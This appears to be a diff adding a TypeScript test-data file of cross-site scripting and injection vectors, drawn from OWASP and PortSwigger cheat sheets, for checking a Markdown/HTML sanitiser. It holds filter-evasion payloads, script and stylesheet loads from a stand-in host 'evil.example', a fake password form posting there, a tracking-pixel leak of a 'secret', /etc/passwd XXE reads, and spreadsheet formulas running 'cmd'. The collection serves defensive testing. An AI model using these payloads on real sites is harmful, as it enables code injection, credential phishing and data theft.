@@ -1,0 +1,332 @@
+/**
+ * Texts that would run a script, fetch something or change the page if any part of the site took them for more than text. Classes
+ * after OWASP's filter evasion cheat sheet, PortSwigger's cheat sheet and the issues of Markdown renderers; combined by code where a
+ * class is a product. What runs sets `window.__xss` or opens a dialog; what loads asks `evil.example`.
+ */
+
+const RUN = "window.__xss=1";
+const HOST = "evil.example";
+
+const tags = [
+  "img src=x",
+  "svg",
+  "body",
+  "input autofocus",
+  "details open",
+  "video src=x",
+  "audio src=x",
+  "iframe",
+  "marquee",
+  "select autofocus",
+  "object data=x",
+  'a href="#" tabindex=1',
+  "div contenteditable autofocus",
+  "button popovertarget=x",
+  "math tabindex=1 autofocus",
+  "style",
+  "form",
+  "x-y tabindex=1 autofocus",
+];
+const handlers = [
+  "onload",
+  "onerror",
+  "onfocus",
+  "onclick",
+  "onmouseover",
+  "ontoggle",
+  "onstart",
+  "onanimationstart",
+  "onpointerenter",
+  "onbeforetoggle",
+];
+const handled = tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${RUN}>`));
+
+/** What stands before a tag to leave the place the text was put into. */
+const breakouts = [
+  '">',
+  "'>",
+  "`>",
+  "</title>",
+  "</textarea>",
+  "</style>",
+  "</script>",
+  "</noscript>",
+  "</template>",
+  "--></comment>",
+  "]]>",
+  "*/</style>",
+  '\\">',
+  "</a></p></li></ul></div>",
+  "%22%3E",
+  "\u2028",
+].map((out) => `${out}<img src=x onerror=${RUN}>`);
+
+/** How a scheme can be written so that a filter does not see it and a browser does. */
+const disguises: readonly ((scheme: string) => string)[] = [
+  (scheme) => scheme,
+  (scheme) => scheme.toUpperCase(),
+  (scheme) =>
+    Array.from(scheme)
+      .map((sign, at) => (at % 2 ? sign.toUpperCase() : sign))
+      .join(""),
+  (scheme) => `\u0001${scheme}`,
+  (scheme) => `\u00a0${scheme}`,
+  (scheme) => `\u200b${scheme}`,
+  (scheme) => `&#14;${scheme}`,
+  (scheme) => `&#x20;${scheme}`,
+  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}`,
+  (scheme) => `${scheme.slice(0, 3)}\n${scheme.slice(3)}`,
+  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}`,
+  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}`,
+  (scheme) => `${scheme.slice(0, 3)}&#x0D;${scheme.slice(3)}`,
+  (scheme) => `${scheme.slice(0, 3)}\u0000${scheme.slice(3)}`,
+  (scheme) => scheme.replace(":", "&colon;"),
+  (scheme) => scheme.replace(":", "&#58;"),
+  (scheme) => scheme.replace(":", "&#x3a;"),
+  (scheme) => scheme.replace(":", "%3A"),
+  (scheme) => scheme.replace(":", "\\:"),
+  (scheme) =>
+    Array.from(scheme)
+      .map((sign) => `&#${String(sign.charCodeAt(0))};`)
+      .join(""),
+  (scheme) =>
+    Array.from(scheme)
+      .map((sign) => `&#x${sign.charCodeAt(0).toString(16)}`)
+      .join(""),
+];
+const running = [`javascript:${RUN}`, `vbscript:${RUN}`, `data:text/html,<script>${RUN}</script>`];
+const disguised = running.flatMap((url) =>
+  disguises.map((disguise) => {
+    const end = url.indexOf(":") + 1;
+    return disguise(url.slice(0, end)) + url.slice(end);
+  }),
+);
+
+/** Addresses a document must not link to, or must not load. */
+export const addresses: readonly string[] = [
+  ...disguised,
+  `javascript://${HOST}/%0A${RUN}`,
+  `javascript:/*--></title></style></textarea></script><svg onload=${RUN}>*/`,
+  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
+  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
+  `blob:https://${HOST}/0`,
+  "file:///etc/passwd",
+  `ftp://${HOST}/`,
+  `ws://${HOST}/`,
+  `view-source:https://${HOST}/`,
+  `jar:https://${HOST}!/x.html`,
+  `intent://${HOST}#Intent;end`,
+  "ms-word:ofe|u|https://evil.example/x.docx",
+  "feed:javascript:window.__xss=1",
+  "mocha:window.__xss=1",
+  "about:blank",
+  `filesystem:https://${HOST}/x`,
+  "tel:+70000000000",
+];
+
+/** The same addresses in every place where Markdown or HTML takes one; definitions are apart. */
+const placed = addresses.flatMap((url) => [
+  `[click](${url})`,
+  `[click](<${url}>)`,
+  `![picture](${url})`,
+  `<${url}>`,
+  `<a href="${url}">click</a>`,
+]);
+
+const elements = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt >${RUN}</sCrIpT >`,
+  `<script/src=//${HOST}/x.js></script>`,
+  `<script type=module>import "https://${HOST}/x.js"</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\u000b>${RUN}</script>`,
+  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
+  `＜script＞${RUN}＜/script＞`,
+  `<img src=x onerror=${RUN}//`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x:x onerror\u0009=\u0009"${RUN}">`,
+  `<img src="//${HOST}/pixel.gif">`,
+  `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`,
+  `<picture><source srcset="https://${HOST}/a.png"><img></picture>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:,${RUN}"/></svg>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><set attributeName=href to="javascript:${RUN}">`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x">`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.__xss=1</script>"></iframe></foreignObject></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<math><a xlink:href="javascript:${RUN}">x</a></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
+  `<title><a id="</title><img src=x onerror=${RUN}>"></title>`,
+  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.__xss=1"></iframe>`,
+  `<iframe src="https://${HOST}/frame"></iframe>`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<object data="https://${HOST}/x.swf"><param name=x></object>`,
+  `<embed src="data:text/html,<script>${RUN}</script>">`,
+  `<embed src="https://${HOST}/x.swf">`,
+  `<applet code=x archive="https://${HOST}/x.jar"></applet>`,
+  `<frameset onload=${RUN}><frame src="https://${HOST}/"></frameset>`,
+  `<meta http-equiv=refresh content="0;url=https://${HOST}/">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv=set-cookie content="NEXT_LOCALE=xx">`,
+  `<meta http-equiv=content-security-policy content="script-src *">`,
+  `<base href="https://${HOST}/">`,
+  `<base target=_top href="javascript:/*">`,
+  `<link rel=stylesheet href="https://${HOST}/x.css">`,
+  `<link rel=preload as=image href="https://${HOST}/x.png">`,
+  `<link rel=prefetch href="https://${HOST}/x">`,
+  `<style>@import "https://${HOST}/x.css"; body{display:none}</style>`,
+  `<style>*{background:url(https://${HOST}/x)}</style>`,
+  `<p style="background:url(https://${HOST}/x);position:fixed;inset:0">over everything</p>`,
+  `<p style="width:expression(${RUN})">x</p>`,
+  `<p style="behavior:url(https://${HOST}/x.htc)">x</p>`,
+  `<p style="-moz-binding:url(https://${HOST}/x.xml#x)">x</p>`,
+  `<form action="https://${HOST}/"><input name=password><button>Log in</button></form>`,
+  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
+  `<input type=image src="https://${HOST}/x.png" formaction="javascript:${RUN}">`,
+  `<isindex type=image src=x onerror=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<video poster="https://${HOST}/x.png" src="https://${HOST}/x.mp4"></video>`,
+  `<audio src="https://${HOST}/x.mp3" autoplay></audio>`,
+  `<bgsound src="https://${HOST}/x.mp3">`,
+  `<table background="https://${HOST}/x.png"><td background="javascript:${RUN}">x</table>`,
+  `<a href="https://${HOST}/" ping="https://${HOST}/ping" onclick=${RUN}>x</a>`,
+  `<a href=javas&#99;ript:${RUN}>x</a>`,
+  `<area href="javascript:${RUN}" shape=default>`,
+  `<keygen autofocus onfocus=${RUN}>`,
+  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
+  `<div popover id=x onbeforetoggle=${RUN}>x</div>`,
+  `<portal src="https://${HOST}/"></portal>`,
+  `<slot onslotchange=${RUN}></slot>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${RUN}"?>`,
+  `<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>`,
+  `<img name=getElementById><img name=cookie><form name=body><input name=firstChild></form>`,
+  `<a id=__next><a id=__next name=x href="javascript:${RUN}">`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
+];
+
+/** Texts for places where JSON, a template, a script, a style sheet or a formula is made of them. */
+const others = [
+  `"}</script><script>${RUN}</script>`,
+  `{"__proto__":{"__xss":1}}`,
+  `constructor.constructor("${RUN}")()`,
+  `{{constructor.constructor("${RUN}")()}}`,
+  `\${${RUN}}`,
+  `#{${RUN}}`,
+  `<%= ${RUN} %>`,
+  `[[${RUN}]]`,
+  `{% raw %}${RUN}{% endraw %}`,
+  `';${RUN}//`,
+  `";${RUN}//`,
+  `\\';${RUN}//`,
+  "`-alert(1)-`",
+  `</style><style>@import url(//${HOST})`,
+  `}*{background:url(//${HOST}/x)}`,
+  `--x:url(https://${HOST}/x)`,
+  `click A href "javascript:${RUN}"`,
+  `A["<img src=x onerror=${RUN}>"] --> B`,
+  `%%{init: {"securityLevel": "loose"}}%%`,
+  `=HYPERLINK("https://${HOST}","x")`,
+  `=cmd|'/C calc'!A0`,
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1-1|cmd",
+  "-1+1|cmd",
+  "＝1+1",
+  "\t=1+1",
+  `name\r\nBcc: x@${HOST}`,
+  `[B]bold[/B][URL=javascript:${RUN}]x[/URL]`,
+  "\u202etxt.exe\u202c",
+  "\ud800 lone half",
+];
+
+/** Markdown of its own kind: nesting, titles, automatic links, tables, tasks, footnotes, code. */
+const markdown = [
+  `[a](javascript:${RUN} "title")`,
+  `[a](https://${HOST}/ "x\\" onmouseover=${RUN} ")`,
+  `[a](https://${HOST}/"onmouseover="${RUN})`,
+  `![a](x"onerror="${RUN})`,
+  `![a"onerror="${RUN}](x)`,
+  `![](https://${HOST}/pixel.gif?q=secret)`,
+  `[![a](https://${HOST}/a.png)](javascript:${RUN})`,
+  `[[a](javascript:${RUN})](javascript:${RUN})`,
+  `![[a](javascript:${RUN})](https://${HOST}/a.png)`,
+  `[a]((javascript:${RUN}))`,
+  `[a](\\javascript:${RUN})`,
+  `[a](//${HOST}/x)`,
+  `[a](/\\${HOST}/x)`,
+  `[a](\\\\${HOST}\\x)`,
+  `[a](https:${HOST})`,
+  `[a](http://javascript:${RUN}@${HOST})`,
+  `https://${HOST}/"onmouseover="${RUN}`,
+  `https://${HOST}/<img/src=x/onerror=${RUN}>`,
+  `www.${HOST}/<script>${RUN}</script>`,
+  `javascript:${RUN}@${HOST}`,
+  `"><img/src=x/onerror=${RUN}>@${HOST}`,
+  `xmpp:x@${HOST}?javascript:${RUN}`,
+  `**<img src=x onerror=${RUN}>**`,
+  `\`<img src=x onerror=${RUN}>\``,
+  `\`\`<script>${RUN}</script>\`\``,
+  `# <img src=x onerror=${RUN}>`,
+  `> <img src=x onerror=${RUN}>`,
+  `- <img src=x onerror=${RUN}>`,
+  `- [x] <input autofocus onfocus=${RUN}>`,
+  `- [ ] [a](javascript:${RUN})`,
+  `1. [a](javascript:${RUN})`,
+  `| <img src=x onerror=${RUN}> | [a](javascript:${RUN}) |\n| :-- | --: |\n| <svg onload=${RUN}> | ![](https://${HOST}/a.png) |`,
+  `~~<img src=x onerror=${RUN}>~~`,
+  `    <script>${RUN}</script>`,
+  `<div\nonmouseover=${RUN}\n>x</div>`,
+  `<details open ontoggle=${RUN}>\n<summary>x</summary>\n</details>`,
+  `\\<img src=x onerror=${RUN}>`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `[click me](#user-content-x){onclick=${RUN}}`,
+  `<!-- -->[a](javascript:${RUN})`,
+  `:::{onclick="${RUN}"}\nx\n:::`,
+  `$\\href{javascript:${RUN}}{x}$`,
+  `\\[a](javascript:${RUN})`,
+  `[a]\u200b(javascript:${RUN})`,
+  `[${"[".repeat(40)}a](javascript:${RUN})`,
+  `${"*".repeat(60)}a<img src=x onerror=${RUN}>${"*".repeat(59)}`,
+];
+
+/** Vectors that stand for themselves, each a text of its own. */
+export const vectors: readonly string[] = [
+  ...handled,
+  ...breakouts,
+  ...elements,
+  ...others,
+  ...markdown,
+  ...placed,
+];
+
+/** Markdown whose parts work together across blank lines; no other text of the same document may change it. */
+export const wholeDocuments: readonly string[] = [
+  addresses.map((url, index) => `[d${String(index)}]: <${url.replaceAll(/[<>\n]/g, "")}>`).join("\n") +
+    `\n\n${addresses.map((_, index) => `[d${String(index)}] ![p][d${String(index)}] [t][d${String(index)}]`).join("\n\n")}`,
+  `Note[^1] and[^<img src=x onerror=${RUN}>]\n\n[^1]: [a](javascript:${RUN}) <script>${RUN}</script>\n[^<img src=x onerror=${RUN}>]: x`,
+  `Clobber[^__proto__] [^constructor] [^toString]\n\n[^__proto__]: a\n[^constructor]: b\n[^toString]: c`,
+  `\`\`\`html\n<script>${RUN}</script>`,
+  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD\n  A["<img src=x onerror=${RUN}>"] --> B\n  click A href "javascript:${RUN}"\n\`\`\``,
+  `~~~\n</code></pre><img src=x onerror=${RUN}>\n~~~`,
+  `---\ntitle: <script>${RUN}</script>\n---\n\ntext`,
+  `<script>\n\n${RUN}\n\n</script>\n\n<style>\n\n* { display: none }\n\n</style>`,
+  `<div>\n\n[a](javascript:${RUN})\n\n</div>\n\n<img\n\nsrc=x onerror=${RUN}>`,
+];
